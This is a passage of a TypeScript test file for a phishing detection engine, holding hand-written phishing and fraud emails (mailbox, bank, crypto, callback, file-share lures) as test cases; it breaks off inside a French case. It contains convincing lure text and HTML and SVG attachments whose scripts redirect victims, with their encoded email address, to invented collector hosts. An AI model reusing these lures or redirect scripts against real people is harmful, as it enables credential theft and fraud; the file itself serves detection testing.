// A sixth blind batch of hand-written phishing and fraud (2024–2026), written before reading any
// detection code, to measure the engine on mail nobody tuned it to. Its weight is on what
// corporate and consumer security teams triage every day: webmail quota and password-expiry
// kits, Microsoft 365 and Google shares, voicemail and fax notices, bank, card, crypto,
// streaming, app-store and social-network lures; Brazilian lures (Receita, Detran, Serasa,
// Correios taxation, PIX receipts, nota fiscal, Nubank, Itaú, Caixa, court summons, gov.br);
// Spanish ones (AEAT, DGT, Correos, BBVA, Santander, Seguridad Social); and fraud (advance fee,
// inheritance, lottery, crypto recovery, task jobs, sextortion, bank-detail changes, CEO gift
// cards, "arnaque au président"). Delivery varies: throw-away domains, compromised small
// businesses whose own DKIM passes, free mail, abused ESPs and brand services, links inside PDF,
// HTML and SVG attachments, picture-only mail, a subject-only lure, a forged forwarded chain.
// Criminal infrastructure uses invented names and documentation IP ranges; real brand domains
// appear only where the brand is spoofed (failing DMARC) or its own service abused.

import { imagePdf, qrGrey, shortcut, textPdf, zip, JPEG } from './formats-builders.ts';
import { attachment, document, gmailBody, html, mail, multipart, plain } from './mail-builder.ts';
import type { AuthOutcome } from './mail-builder.ts';
import type { PhishingCase } from './phishing-mail-cases.ts';
import { sendgridHeaders } from './phishing-mail-fourth-cases.ts';
import { inlineImage } from './phishing-mail-more-cases.ts';
import { brevoHeaders, sesHeaders } from './phishing-mail-third-cases.ts';

/** A throw-away domain registered for the campaign: it signs, but publishes no DMARC. */
const THROWAWAY: AuthOutcome = { dmarc: 'none' };
/** A brand's own domain in From, sent from the criminal's server: unsigned, DMARC fails. */
const SPOOFED: AuthOutcome = { dkim: 'none', spf: 'pass', dmarc: 'fail' };

const GMAIL = { dkim: ['gmail.com:20230601'], relay: 'mail-sor-f41.google.com [209.85.220.41]' } as const;
const OUTLOOK = { dkim: ['outlook.com:selector1'], relay: 'EUR05-AM6-obe.outbound.protection.outlook.com [40.92.58.101]' } as const;

/** A one-page PDF whose only content is a QR code (scanned with a phone, outside the mail filter). */
function qrPdf(url: string, lines: readonly string[]): Uint8Array {
  const { side, pixels } = qrGrey(url, 4);
  return imagePdf(`/Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8`, pixels, [], lines);
}

/** An HTML attachment that sends the browser to the collector with the victim's address in the fragment. */
function redirectPage(title: string, text: string, collector: string, victim: string): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body style="font-family:Segoe UI,Arial"><p>${text}</p><script>
var t = atob("${Buffer.from(collector).toString('base64')}");
var e = "${Buffer.from(victim).toString('base64')}";
setTimeout(function () { window.location.replace(t + "#" + e); }, 800);
</script></body></html>`;
}

export const SIXTH_CASES: readonly PhishingCase[] = [
  // ================================================================ credential phishing (en)
  {
    // The classic webmail-quota kit: a throw-away domain, the recipient's address in the subject,
    // "held messages" to release on a Cloudflare Workers page.
    name: 'Mailbox "98% full, 27 messages held" from a throw-away domain, release on workers.dev',
    lang: 'en',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'Mail Administrator <no-reply@mailbox-storage-notice.com>',
      to: 'd.keller@harwoodlogistics.com',
      subject: 'Action required: d.keller@harwoodlogistics.com storage is 98% full',
      date: 'Tue, 14 Jan 2025 07:12:44 +0000',
      messageId: '20250114071244.4f1a9c@mailbox-storage-notice.com',
      dkim: ['mailbox-storage-notice.com:default'],
      relay: 'mail.mailbox-storage-notice.com [203.0.113.44]',
      auth: THROWAWAY,
      body: document([
        { heading: 'Mailbox storage almost full' },
        {
          rows: [
            ['Account', 'd.keller@harwoodlogistics.com'],
            ['Used', '49.1 GB of 50 GB'],
            ['Held messages', '27'],
          ],
        },
        'Incoming messages are being held on the server because your mailbox has reached its limit. Release them and upgrade your storage at no cost before they are deleted in 24 hours.',
        { button: 'Release held messages', href: 'https://mailstore-upgrade.kelvin-r8.workers.dev/?u=d.keller@harwoodlogistics.com' },
        { small: 'harwoodlogistics.com Email Administration. This is an automated message, do not reply.' },
      ]),
    }),
  },
  {
    // Password expiry sent from a dental practice's hijacked mailbox (its own DKIM passes),
    // "keep your current password" on an R2 bucket page.
    name: 'Password "expires today, keep current password" from a dental practice\'s hijacked mailbox, kit on r2.dev',
    lang: 'en',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'IT Service Desk <reception@lakesidedentalcare.com>',
      to: 'm.ortega@pinecrest-builders.com',
      subject: 'Password Expiry Notice: 1 day remaining',
      date: 'Wed, 5 Mar 2025 13:40:02 -0600',
      messageId: 'a7c2e91f04b34d6e@lakesidedentalcare.com',
      dkim: ['lakesidedentalcare.com:default'],
      relay: 'mail.lakesidedentalcare.com [198.51.100.61]',
      body: document([
        'Hello m.ortega,',
        'The password for your account m.ortega@pinecrest-builders.com expires today. To continue using the same password and avoid losing access to email, Teams and OneDrive, confirm it below.',
        {
          button: 'Keep Current Password',
          href: 'https://pub-7f3a1c9e2b4d4e8fa0c1d2e3f4a5b6c7.r2.dev/sso/index.html#bS5vcnRlZ2FAcGluZWNyZXN0LWJ1aWxkZXJzLmNvbQ==',
        },
        { small: 'IT Service Desk. Please do not ignore this message.' },
      ]),
    }),
  },
  {
    // A partner's real Microsoft 365 mailbox is hijacked: the share notice is signed by the
    // partner's domain and goes to a Canva page with the "open document" button to the kit.
    name: 'SharePoint-style "Karen shared 2025 Engagement Letter" from a CPA firm\'s hijacked M365 mailbox, Canva hop',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Karen Ott <kott@brightwellcpa.com>',
      to: 'accounts@marlowfurniture.com',
      subject: 'Karen Ott shared "Brightwell CPA - 2025 Engagement Letter" with you',
      date: 'Thu, 23 Jan 2025 16:05:37 +0000',
      messageId: 'BN8PR12MB3377B4E1F0A9C2D5E6F7A8B9C0D1E2F3@BN8PR12MB3377.namprd12.prod.outlook.com',
      dkim: ['brightwellcpa.com:selector1', 'brightwellcpa.onmicrosoft.com:selector1'],
      relay: 'NAM12-BN8-obe.outbound.protection.outlook.com [40.107.212.88]',
      body: document([
        { heading: 'Karen Ott shared a file with you' },
        'Brightwell CPA - 2025 Engagement Letter.pdf',
        'Please review the engagement letter and the updated fee schedule before our call next week.',
        { button: 'Open', href: 'https://www.canva.com/design/DAGc4Kq8vT2/Xw9pLm3RtY7bN1cV5zQ8sA/view' },
        { small: 'This link only works for the direct recipients of this message. Microsoft respects your privacy.' },
      ]),
    }),
  },
  {
    // Google Drive's own share notice abused for a callback scam: the "document" title carries
    // the fake Geek Squad renewal and the phone number; Google signs it.
    name: 'Google Drive share notice abused: document title is a $399.99 Geek Squad renewal with a phone number',
    lang: 'en',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Billing Department (via Google Docs) <drive-shares-dm-noreply@google.com>',
      to: 'janet.pruitt@yahoo.com',
      replyTo: 'Billing Department <gsquad.billing.desk@gmail.com>',
      subject: 'Document shared with you: "INVOICE GS-88412 Total Protection renewed $399.99 call +1 (808) 555-0142"',
      date: 'Mon, 10 Feb 2025 18:22:09 +0000',
      messageId: '0000000000003f9c2b05e1a7d4c8@google.com',
      dkim: ['google.com:20230601'],
      returnPath: '3Rf2pZxoKCW8ab0d-7e1g2h3i4j@doclist.bounces.google.com',
      relay: 'mail-sor-f69.google.com [209.85.220.69]',
      body: document([
        { heading: 'Billing Department shared a document' },
        'Billing Department (gsquad.billing.desk@gmail.com) has invited you to view the following document:',
        'INVOICE GS-88412 Total Protection renewed $399.99 call +1 (808) 555-0142',
        { button: 'Open', href: 'https://docs.google.com/document/d/1xQ8vT2mN4pK7wR9yZ3bC5dF8hJ0lL6nPqS4tU2vW/edit?usp=sharing_eil&ts=67aa4b91' },
        {
          small:
            'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA. You have received this email because gsquad.billing.desk@gmail.com shared a document with you from Google Docs.',
        },
      ]),
    }),
  },
  {
    // Voicemail notice with an HTML "player" attachment that redirects to the kit with the
    // victim's address in the fragment.
    name: 'Voicemail "00:47 from +1 (470) 555-0193" with an HTML player attachment redirecting to the kit',
    lang: 'en',
    lure: 'voicemail',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Voice Services <voicemail@vm-notify-center.net>',
      to: 'r.chandler@meridianhealthgroup.org',
      subject: 'New Voice Message from +1 (470) 555-0193 — 00:47 sec',
      date: 'Fri, 21 Feb 2025 11:31:50 +0000',
      messageId: '20250221113150.77ab2@vm-notify-center.net',
      dkim: ['vm-notify-center.net:mail'],
      relay: 'smtp.vm-notify-center.net [203.0.113.87]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        document([
          {
            rows: [
              ['Caller', '+1 (470) 555-0193'],
              ['Received', 'Friday, February 21, 2025 6:29 AM'],
              ['Length', '00:47'],
              ['Mailbox', 'r.chandler@meridianhealthgroup.org'],
            ],
          },
          'You have a new voice message. Open the attached audio file to listen.',
        ]),
        attachment(
          'VM_Play_0047.htm',
          'text/html',
          redirectPage('Voice Message', 'Loading voice message…', 'https://vm-audio-playback.click/play/', 'r.chandler@meridianhealthgroup.org'),
        ),
      ]),
    }),
  },
  {
    // eFax notice from a roofer's hijacked mailbox, the kit uploaded to the same firm's WordPress.
    name: 'eFax "3 page(s) from +44 20 7946 0321" from a roofer\'s hijacked mailbox, kit in its own wp-content',
    lang: 'en',
    lure: 'voicemail',
    expect: ['phishing'],
    raw: mail({
      from: 'eFax Messenger <accounts@greenfieldroofing.co.uk>',
      to: 'helen.burrows@castlegateestates.co.uk',
      subject: 'eFax message from "+44 20 7946 0321" - 3 page(s), Caller-ID: 442079460321',
      date: 'Tue, 8 Apr 2025 09:14:27 +0100',
      messageId: '5b2d8e1fa3c74e09@greenfieldroofing.co.uk',
      dkim: ['greenfieldroofing.co.uk:default'],
      relay: 'mail.greenfieldroofing.co.uk [198.51.100.140]',
      body: document([
        { heading: 'You have received a 3 page fax' },
        {
          rows: [
            ['Fax ID', 'ATL-4488-21-KQ'],
            ['Pages', '3'],
            ['Received', '08/04/2025 09:11'],
            ['Sender', '+44 20 7946 0321'],
          ],
        },
        'Click below to view your fax. You will be asked to sign in with your email account to verify you are the intended recipient.',
        { button: 'View Fax Document', href: 'https://www.greenfieldroofing.co.uk/wp-content/uploads/2025/04/efax/index.php?id=aGVsZW4uYnVycm93cw' },
        { small: 'Powered by eFax® — j2 Global. Do not reply to this message.' },
      ]),
    }),
  },
  {
    // Chase spoofed on its own domain (DMARC fails), account "restricted" after an unusual
    // sign-in, the kit on a look-alike domain.
    name: 'Chase spoofed: "account temporarily restricted after unusual sign-in", look-alike verify domain',
    lang: 'en',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'Chase <no.reply.alerts@chase.com>',
      to: 'marcus.bell77@gmail.com',
      subject: 'Your Chase account has been temporarily restricted',
      date: 'Sat, 15 Mar 2025 03:48:11 +0000',
      messageId: '20250315034811.1c2d3e@srv-4471.hostingvps.net',
      returnPath: 'root@srv-4471.hostingvps.net',
      relay: 'srv-4471.hostingvps.net [198.51.100.23]',
      auth: SPOOFED,
      body: document([
        { heading: 'We noticed unusual activity' },
        'Dear Customer, we detected a sign-in attempt to your Chase Online account from an unrecognized device in Columbus, OH. For your protection we have temporarily restricted your account.',
        'To restore full access, please verify your identity within 24 hours. Failure to verify will result in permanent suspension of online banking.',
        { button: 'Verify My Identity', href: 'https://chase-secure-access-verify.com/auth/logon?session=7f3a9c' },
        { small: '© 2025 JPMorgan Chase & Co. Member FDIC.' },
      ]),
    }),
  },
  {
    // Amex through a SendGrid account on a throw-away domain: card suspended, click-tracked link.
    name: 'Amex "Card temporarily suspended, confirm recent transaction" via SendGrid on a throw-away domain',
    lang: 'en',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'American Express <alerts@amex-cardmember-services.com>',
      to: 'p.nakamura@outlook.com',
      subject: 'Important: Your Card ending in 1008 has been temporarily suspended',
      date: 'Thu, 3 Apr 2025 22:09:31 +0000',
      messageId: 'tR7vN2mX4pQ1wK8yZ3bC5d@geopod-ismtpd-3',
      dkim: ['amex-cardmember-services.com:s1', 'sendgrid.info:smtpapi'],
      returnPath: 'bounces+40118822-3c1d-p.nakamura=outlook.com@em4411.amex-cardmember-services.com',
      relay: 'o11.ptr3318.amex-cardmember-services.com [149.72.88.11]',
      auth: THROWAWAY,
      headers: sendgridHeaders('Vc8nT2mX4pQ1wK7yZ3bC5dF9hJ0lL6nPa'),
      body: document([
        { heading: 'Suspicious charge detected' },
        {
          rows: [
            ['Merchant', 'BESTBUY.COM 00412'],
            ['Amount', '$1,249.99'],
            ['Card', 'Platinum Card® ending 1008'],
          ],
        },
        'We have temporarily suspended your Card to protect you from fraud. Please confirm whether you made this purchase and verify your account details to reactivate your Card.',
        { button: 'Review Transaction', href: 'https://u40118822.ct.sendgrid.net/ls/click?upn=u001.pQ8x-2BvN4mT7wR1yZ3bC5dF8hJ0lL6nP-2Bk9' },
        { small: 'American Express. Please do not reply to this email.' },
      ]),
    }),
  },
  {
    // Subject-only callback: the whole lure is in the subject, the body a reference number.
    name: 'Coinbase callback in the subject only: "withdrawal of 0.4821 BTC requested, not you? call", body a reference',
    lang: 'en',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Coinbase Security <support@cb-security-desk.com>',
      to: 'alan.whitford@gmail.com',
      subject: 'Coinbase: withdrawal of 0.4821 BTC requested. Not you? Call +1 (888) 555-0168 now',
      date: 'Sun, 27 Apr 2025 01:55:02 +0000',
      messageId: '20250427015502.2a9f@cb-security-desk.com',
      dkim: ['cb-security-desk.com:default'],
      relay: 'mx.cb-security-desk.com [203.0.113.152]',
      auth: THROWAWAY,
      body: plain('Ref: CB-WD-88412-7731'),
    }),
  },
  {
    // MetaMask "mandatory verification": the page asks for the recovery phrase.
    name: 'MetaMask "mandatory wallet verification before 31 March" asking for the recovery phrase on pages.dev',
    lang: 'en',
    lure: 'crypto',
    expect: ['phishing', 'fraud'],
    raw: mail({
      from: 'MetaMask <no-reply@metamask-wallet-verify.io>',
      to: 'derek.osei@protonmail.com',
      subject: 'Action Required: Wallet verification deadline March 31',
      date: 'Mon, 24 Mar 2025 14:20:45 +0000',
      messageId: '20250324142045.8812@metamask-wallet-verify.io',
      dkim: ['metamask-wallet-verify.io:k1'],
      relay: 'mail.metamask-wallet-verify.io [203.0.113.19]',
      auth: THROWAWAY,
      body: document([
        { heading: 'Verify your wallet' },
        'Due to new regulatory requirements, all MetaMask wallets must complete verification before March 31, 2025. Unverified wallets will be restricted and funds may become inaccessible.',
        'Verification takes less than 2 minutes. You will need your Secret Recovery Phrase to confirm ownership.',
        { button: 'Verify Wallet', href: 'https://metamask-verify-portal.pages.dev/' },
        { small: 'MetaMask, ConsenSys Software Inc.' },
      ]),
    }),
  },
  {
    // Ledger "firmware security update" through a Brevo account, the download page a fake Ledger Live.
    name: 'Ledger "critical firmware security update" through Brevo, fake Ledger Live page',
    lang: 'en',
    lure: 'crypto',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Ledger <security@ledger-support-update.com>',
      to: 'nina.albrecht@gmail.com',
      subject: 'Critical security update for your Ledger Nano X',
      date: 'Wed, 7 May 2025 10:02:19 +0000',
      messageId: '202505071002.44197230914@smtp-relay.mailin.fr',
      dkim: ['ledger-support-update.com:mail', 'sendinblue.com:mail'],
      returnPath: 'bounces-44197-nina.albrecht=gmail.com@sendinblue.com',
      relay: 'smtp-relay.sendinblue.com [185.41.28.118]',
      auth: THROWAWAY,
      headers: brevoHeaders('44197', 'c1d2e3f4-a5b6-4c7d-8e9f-0a1b2c3d4e5f'),
      body: document([
        { heading: 'Security update required' },
        'A vulnerability affecting Ledger Nano X devices has been identified. To keep your assets safe, update your device through the latest Ledger Live version and re-verify your recovery phrase.',
        'Devices not updated by May 14 may be unable to sign transactions.',
        { button: 'Update Ledger Live', href: 'https://ledger-live-secure.com/download' },
        { small: 'Ledger SAS, 1 rue du Mail, 75002 Paris, France.' },
      ]),
    }),
  },
  {
    // Netflix "payment declined" through Amazon SES on a throw-away domain.
    name: 'Netflix "your payment was declined, update your payment method" through SES on a throw-away domain',
    lang: 'en',
    lure: 'streaming',
    expect: ['phishing'],
    raw: mail({
      from: 'Netflix <info@account-netflix-billing.com>',
      to: 'sophie.turnbull@hotmail.com',
      subject: 'Your membership is on hold: update your payment details',
      date: 'Fri, 16 May 2025 08:44:10 +0000',
      messageId: '010001967a2b4c1d-5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9-000000@email.amazonses.com',
      dkim: ['account-netflix-billing.com:ses1', 'amazonses.com:224i4yxa5dv7c2xz3womw6peuasteono'],
      returnPath: '010001967a2b4c1d-5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9-000000@amazonses.com',
      relay: 'a8-44.smtp-out.amazonses.com [54.240.8.44]',
      auth: THROWAWAY,
      headers: sesHeaders('us-east-1', '1.us-east-1.Qk7vX1m2N3b4V5c6=', '2025.05.16-54.240.8.44'),
      body: document([
        { heading: 'Your payment was declined' },
        'Hi Sophie, we were unable to process your payment for the next billing cycle. Your membership has been put on hold.',
        'Update your payment details within 48 hours to keep watching without interruption.',
        { button: 'Update Payment', href: 'https://netflix-renew-membership.top/billing/update' },
        { small: 'Questions? Call 1-866-579-7172. Netflix International B.V.' },
      ]),
    }),
  },
  {
    // App-store callback from Gmail: a "receipt" PDF for Final Cut Pro with a refund number.
    name: 'Apple "receipt for Final Cut Pro $299.99" from Gmail with a PDF invoice and a refund phone number',
    lang: 'en',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Apple Billing <appleinvoice.dept83@gmail.com>',
      to: 'gordon.mcbride@comcast.net',
      subject: 'Your receipt from Apple. Order No. MT44821QX',
      date: 'Tue, 20 May 2025 15:07:33 +0000',
      messageId: 'CAK4pN2xV8mR1tK7wQ3bL9cF5dH6sY0a_qT8pX@mail.gmail.com',
      ...GMAIL,
      body: multipart('mixed', [
        gmailBody(
          'Dear Customer,\n\nThank you for your purchase of Final Cut Pro (1 year) for $299.99, charged to your card on file. Your invoice is attached.\n\nIf you did not make this purchase or wish to cancel and get a refund, call Apple Billing Support at +1 (844) 555-0127 within 24 hours.\n\nApple Billing Team',
        ),
        attachment(
          'Invoice_MT44821QX.pdf',
          'application/pdf',
          textPdf([
            'Apple Store Invoice',
            'Order No. MT44821QX',
            'Final Cut Pro - 1 year subscription    $299.99',
            'Payment: Visa ending 4417',
            'Not you? Cancel and refund: +1 (844) 555-0127 (24/7)',
          ]),
        ),
      ]),
    }),
  },
  {
    // Instagram "copyright infringement, account deleted in 48 hours" from Outlook, appeal on Netlify.
    name: 'Instagram "copyright infringement, account deleted in 48 hours" from Outlook.com, appeal form on netlify.app',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Instagram Copyright Center <noreply.copyrightcenter@outlook.com>',
      to: 'lena.vostok.art@gmail.com',
      subject: 'Copyright infringement notice on your account (Case #IG-74120)',
      date: 'Thu, 29 May 2025 12:33:01 +0000',
      messageId: 'AM6PR04MB5521D2E3F4A5B6C7D8E9F0A1B2C3D4E5@AM6PR04MB5521.eurprd04.prod.outlook.com',
      ...OUTLOOK,
      body: document([
        { heading: 'Copyright Infringement Notice' },
        'We have received a complaint that content on your account @lena.vostok.art infringes on copyright. Your account will be permanently deleted within 48 hours unless you file an appeal.',
        'If you believe this is a mistake, please submit the appeal form and verify your account information.',
        { button: 'Appeal Decision', href: 'https://instagram-copyright-appeal.netlify.app/case/IG-74120' },
        { small: '© Instagram from Meta, 1601 Willow Road, Menlo Park, CA 94025' },
      ]),
    }),
  },
  {
    // "Meta Verified" badge offer for a business page, form on a Vercel app asking for login and 2FA.
    name: 'Meta "your page is eligible for the blue badge" from a throw-away domain, form on vercel.app',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Meta for Business <business-support@metaverified-badge.com>',
      to: 'hello@sunnysidebakeryco.com',
      subject: 'Your Page is eligible for Meta Verified (blue badge)',
      date: 'Mon, 9 Jun 2025 17:18:40 +0000',
      messageId: '20250609171840.5c2d@metaverified-badge.com',
      dkim: ['metaverified-badge.com:default'],
      relay: 'vps-2281.metaverified-badge.com [203.0.113.201]',
      auth: THROWAWAY,
      body: document([
        { heading: 'Congratulations, your Page qualifies' },
        'After reviewing your Page "Sunnyside Bakery Co" we are pleased to inform you that it is eligible for the verified blue badge free of charge.',
        'Complete your request within 72 hours. You will need to confirm your Facebook login to link the badge to your Page.',
        { button: 'Get Verified', href: 'https://meta-verified-request.vercel.app/page/request' },
        { small: 'Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025' },
      ]),
    }),
  },
  {
    // DocuSign imitation from a law firm's hijacked mailbox, the link on a look-alike host.
    name: 'DocuSign "please review and sign: Amended Agreement" from a law firm\'s hijacked mailbox, look-alike envelope host',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Harper & Lowe LLP via DocuSign <paralegal@harperlowe-law.com>',
      to: 'v.reyes@cobaltridge.com',
      subject: 'Complete with DocuSign: Amended_Services_Agreement_2025.pdf',
      date: 'Wed, 18 Jun 2025 19:41:08 -0400',
      messageId: '8e1a2b3c4d5e4f60@harperlowe-law.com',
      dkim: ['harperlowe-law.com:default'],
      relay: 'mail.harperlowe-law.com [198.51.100.201]',
      body: document([
        { heading: 'Harper & Lowe LLP sent you a document to review and sign.' },
        { button: 'REVIEW DOCUMENT', href: 'https://harperlowe-law.sign-envelope-review.net/Signing/EmailStart.aspx?a=4f1c9e2b' },
        'Please review and sign the amended agreement at your earliest convenience. Thank you, Harper & Lowe LLP',
        { small: 'Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.' },
      ]),
    }),
  },
  {
    // Quishing: the MFA re-enrolment QR code sits in an attached PDF, the body has no link.
    name: 'Microsoft 365 "re-enroll MFA before 14 March" with the QR code in an attached PDF, no link in the body',
    lang: 'en',
    lure: 'qr-code',
    expect: ['phishing'],
    raw: mail({
      from: 'Microsoft 365 Security <security@m365-authenticator-setup.com>',
      to: 'l.haddad@crestviewpartners.com',
      subject: 'Required: re-enroll Multi-Factor Authentication before 14 March',
      date: 'Mon, 10 Mar 2025 08:02:55 +0000',
      messageId: '20250310080255.91ac@m365-authenticator-setup.com',
      dkim: ['m365-authenticator-setup.com:default'],
      relay: 'mail.m365-authenticator-setup.com [203.0.113.230]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        document([
          'Hello l.haddad,',
          'Your organization requires all users to re-enroll Microsoft Authenticator before 14 March 2025. Accounts not re-enrolled will be signed out of Outlook and Teams.',
          'Open the attached document and scan the QR code with your phone camera to complete the enrollment.',
          { small: 'Microsoft 365 Security Team' },
        ]),
        attachment(
          'MFA_Enrollment_l.haddad.pdf',
          'application/pdf',
          qrPdf('https://m365-mfa-enroll.online/?u=l.haddad@crestviewpartners.com', ['Multi-Factor Authentication Enrollment', 'Scan with your phone camera']),
        ),
      ]),
    }),
  },
  {
    // A supplier's hijacked mailbox replies in a real thread with the "revised invoice" link.
    name: 'Reply in a real PO thread from a supplier\'s hijacked mailbox: "revised invoice" on a OneDrive look-alike',
    lang: 'en',
    lure: 'reply-thread',
    expect: ['phishing'],
    raw: mail({
      from: 'Tom Becker <tbecker@northgatesupply.com>',
      to: 'Accounts Payable <ap@harwoodlogistics.com>',
      subject: 'RE: PO 44821 - pallet racking delivery',
      date: 'Tue, 1 Jul 2025 10:26:14 -0500',
      messageId: 'SJ0PR11MB4893C1D2E3F4A5B6C7D8E9F0A1B2C3D4@SJ0PR11MB4893.namprd11.prod.outlook.com',
      dkim: ['northgatesupply.com:selector1', 'northgatesupply.onmicrosoft.com:selector1'],
      relay: 'NAM11-SJ0-obe.outbound.protection.outlook.com [40.107.223.51]',
      headers: [
        'In-Reply-To: <MW4PR17MB5612A9B8C7D6E5F4A3B2C1D0E9F8A7B6@MW4PR17MB5612.namprd17.prod.outlook.com>',
        'References: <MW4PR17MB5612A9B8C7D6E5F4A3B2C1D0E9F8A7B6@MW4PR17MB5612.namprd17.prod.outlook.com>',
        'Thread-Topic: PO 44821 - pallet racking delivery',
      ],
      body: plain(
        'Hi,\n\nSorry for the delay. Please find the revised invoice for PO 44821 with the corrected freight charge here:\n\nhttps://1drv-ms.fileportal-secure.com/x/PO44821-revised\n\nYou will need to sign in with your work email to view it. Let me know once processed.\n\nThanks,\nTom Becker\nNorthgate Supply Co.\n\n-----Original Message-----\nFrom: Accounts Payable <ap@harwoodlogistics.com>\nSent: Monday, June 30, 2025 3:12 PM\nTo: Tom Becker <tbecker@northgatesupply.com>\nSubject: PO 44821 - pallet racking delivery\n\nHi Tom, can you send the final invoice for PO 44821? The freight line looks wrong.\n\nThanks, Accounts Payable',
      ),
    }),
  },
  {
    // SVG "remittance advice" attachment with a script redirect, from a hijacked mailbox.
    name: 'SVG "ACH remittance advice" attachment with a script redirect, from a landscaper\'s hijacked mailbox',
    lang: 'en',
    lure: 'html-attachment',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Payments <billing@evergreenlandscapes-nc.com>',
      to: 'ap@marlowfurniture.com',
      subject: 'ACH Remittance Advice - Payment Confirmation #REM-20931',
      date: 'Thu, 10 Jul 2025 14:50:33 -0400',
      messageId: 'e2f3a4b5c6d74e8f@evergreenlandscapes-nc.com',
      dkim: ['evergreenlandscapes-nc.com:default'],
      relay: 'mail.evergreenlandscapes-nc.com [198.51.100.37]',
      body: multipart('mixed', [
        plain('Hello,\n\nPlease see the attached remittance advice for the ACH payment sent today.\n\nRegards,\nAccounts'),
        attachment(
          'Remittance_Advice_REM-20931.svg',
          'image/svg+xml',
          `<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200"><text x="20" y="40" font-family="Arial">Loading remittance advice…</text><script><![CDATA[
var d = "YXBAbWFybG93ZnVybml0dXJlLmNvbQ==";
window.location.href = "https://remit-view-secure.b-cdn.net/ach/?r=" + d;
]]></script></svg>`,
        ),
      ]),
    }),
  },
  // ================================================================ credential phishing (de, fr, nl)
  {
    // Sparkasse "pushTAN update" from a throw-away .de look-alike.
    name: 'Sparkasse "pushTAN-Verfahren aktualisieren, sonst Sperrung" from a throw-away look-alike',
    lang: 'de',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'Sparkasse <service@sparkasse-pushtan-info.de>',
      to: 'k.wagner@t-online.de',
      subject: 'Wichtig: Aktualisierung Ihres pushTAN-Verfahrens erforderlich',
      date: 'Tue, 11 Feb 2025 09:30:12 +0100',
      messageId: '20250211083012.6f2e@sparkasse-pushtan-info.de',
      dkim: ['sparkasse-pushtan-info.de:mail'],
      relay: 'mail.sparkasse-pushtan-info.de [203.0.113.61]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Sehr geehrte Kundin, sehr geehrter Kunde,' },
          'aufgrund der neuen EU-Richtlinie zur Zahlungssicherheit muss Ihr pushTAN-Verfahren bis zum 18.02.2025 neu registriert werden. Andernfalls wird Ihr Online-Banking-Zugang aus Sicherheitsgründen vorübergehend gesperrt.',
          'Die Aktualisierung dauert nur wenige Minuten.',
          { button: 'Jetzt aktualisieren', href: 'https://sparkasse-pushtan-aktualisierung.com/login' },
          { small: 'Mit freundlichen Grüßen, Ihre Sparkasse. Diese E-Mail wurde automatisch erstellt.' },
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    // German carpenter's hijacked mailbox sends "password expires today" to another firm.
    name: 'Microsoft 365 "Ihr Kennwort läuft heute ab" from a carpenter\'s hijacked mailbox, kit on netlify.app',
    lang: 'de',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'Microsoft 365 Administrator <info@schreinerei-hofmann.de>',
      to: 's.brandt@brandt-elektrotechnik.de',
      subject: 'Ihr Kennwort für s.brandt@brandt-elektrotechnik.de läuft heute ab',
      date: 'Wed, 19 Mar 2025 07:58:41 +0100',
      messageId: '3c4d5e6f7a8b4c9d@schreinerei-hofmann.de',
      dkim: ['schreinerei-hofmann.de:default'],
      relay: 'mail.schreinerei-hofmann.de [198.51.100.88]',
      body: document(
        [
          'Hallo s.brandt,',
          'das Kennwort für Ihr Konto s.brandt@brandt-elektrotechnik.de läuft heute ab. Um Ihr aktuelles Kennwort beizubehalten und den Zugriff auf Outlook und Teams nicht zu verlieren, bestätigen Sie es bitte hier:',
          { button: 'Aktuelles Kennwort beibehalten', href: 'https://kennwort-bestaetigen-365.netlify.app/?e=s.brandt@brandt-elektrotechnik.de' },
          { small: 'Microsoft 365 Administrator' },
        ],
        { lang: 'de' },
      ),
    }),
  },
  {
    // Ameli (French health insurance) refund lure asking for card details.
    name: 'Ameli "remboursement de 126,50 € en attente, mettez à jour votre carte" from a throw-away domain',
    lang: 'fr',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'Assurance Maladie <remboursement@ameli-dossier-info.fr>',
      to: 'claire.dumont@orange.fr',
      subject: 'Remboursement en attente : 126,50 €',
      date: 'Thu, 6 Mar 2025 10:11:05 +0100',
      messageId: '20250306091105.7d1c@ameli-dossier-info.fr',
      dkim: ['ameli-dossier-info.fr:default'],
      relay: 'smtp.ameli-dossier-info.fr [203.0.113.91]',
      auth: THROWAWAY,
      body: document(
        [
          { heading: 'Votre remboursement est en attente' },
          "Madame, Monsieur, après le dernier calcul de vos droits, vous pouvez bénéficier d'un remboursement de 126,50 €. Votre carte Vitale arrive à expiration et vos coordonnées bancaires doivent être mises à jour pour recevoir le versement.",
          'Sans action de votre part sous 72 heures, le remboursement sera annulé.',
